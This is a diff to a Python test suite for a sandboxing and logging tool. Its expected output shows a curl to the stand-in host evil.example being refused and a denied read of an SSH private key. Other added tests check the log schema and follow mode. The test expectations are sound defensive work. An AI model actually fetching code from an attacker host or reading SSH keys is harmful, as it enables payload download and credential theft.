@@ -143,12 +143,12 @@ step 1: npm test  in WS (layer); weaker: memory, network (missing)
    +- 7 /bin/sh -c 'node test.js && ./build '\\''all'\\'''
       |  denial read /home/anna/.ssh/id_ed25519, 2 times: hidden: credentials
       +- 8 /usr/bin/node test.js
-      |     connection registry.npmjs.org:443 (104.16.3.35) allowed by preset npm, GET /left-pad, sent 1 KiB, received 52 KiB, 231 ms
+      |     connection registry.npmjs.org:443 (104.16.3.35) allowed by preset npm, GET /left-pad, sent 812 B, received 52 KiB, 231 ms
       |     connection localhost:5432 (127.0.0.1) failed: Connection refused, 1 ms
       |     denial write /etc/hosts: not a writable place (to allow it: --write /etc/hosts)
       |     denial call ptrace: system call
       +- 13 /usr/bin/curl -s https://evil.example/x … (through 12)
-            connection evil.example:443 refused, 3 times: not allowed, 0 ms""".replace("WS", place.ws).splitlines(), "the tree")
+            connection evil.example:443 refused, 3 times: not allowed, 0 ms (to allow it: --allow evil.example)""".replace("WS", place.ws).splitlines(), "the tree")
 
 
 @test("a tree of numbers that were used again, and one that is deeper than any screen")
@@ -243,6 +243,41 @@ def _():
         same(len(result.out.splitlines()), 100006, "lines")
         check(result.seconds < 15, "it took %.1f s" % result.seconds)
         same(len(log(place, "--tree").out.splitlines()), 90002, "of the tree")
+
+
+@test("a real run: what it executed, what was refused, what it changed, how it ended; each line by the schema")
+def _():
+    with Place() as place:
+        result = run(place, [], "echo more >>f; mkdir %s/new; (sleep 0.01; ls); exit 3" % place.out, mode="layer")
+        same(result.status, 3, "the run: " + result.err)
+        lines = log(place, "--json").out.splitlines()
+        whole = schema_of(place)
+        for line in lines:
+            same(Schema(whole).why(json.loads(line), whole), None, "by the schema: " + line)
+        text = log(place).out
+        same(len(text.splitlines()), len(lines) + 1, "a line each")
+        for part in ("start .*sh -c 'echo more", "exec .*/(sleep|coreutils) .*0.01", "denial .* create %s" % place.base, "change .* changed f, ",
+                     "end .* exited with 3 after", "head .* the log is closed"):
+            check(re.search(part, text), "%s is not in it:\n%s" % (part, text))
+        tree = log(place, "--tree", env={"LANG": "C"}).out
+        check(re.search(r"\n   \+- \d+ /\S*(sleep|coreutils)", tree), "who slept was started by the shell:\n" + tree)
+        same(len(log(place, "-f").out.splitlines()), len(lines) + 1, "followed, when it has ended")
+
+
+@test("-f beside a real run")
+def _():
+    with Place() as place:
+        child = subprocess.Popen([ATOLL, "run", "--direct", "--", "sh", "-c", "echo ready; read line; /bin/cat /dev/null"], cwd=place.ws, stdin=subprocess.PIPE,
+                                 stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=caller_environment(place))
+        same(child.stdout.readline(), b"ready\n", "it runs")
+        check(until(lambda: atoll(place, "log", "--json").out), "its log can be read")
+        follower = subprocess.Popen([ATOLL, "log", "-f", "--json"], cwd=place.ws, stdout=subprocess.PIPE, env=caller_environment(place))
+        same(json.loads(follower.stdout.readline())["kind"], "open", "the first line")
+        child.communicate(b"go\n")
+        rest = [json.loads(line) for line in follower.stdout.read().splitlines()]
+        same(follower.wait(), 0, "it ends with the run")
+        same([event["kind"] for event in rest][-1], "head", "with the last line")
+        check(any(event["kind"] == "exec" and event["path"].endswith("cat") for event in rest), "what came later: %s" % rest)
 
 
 # ---- the schema ----
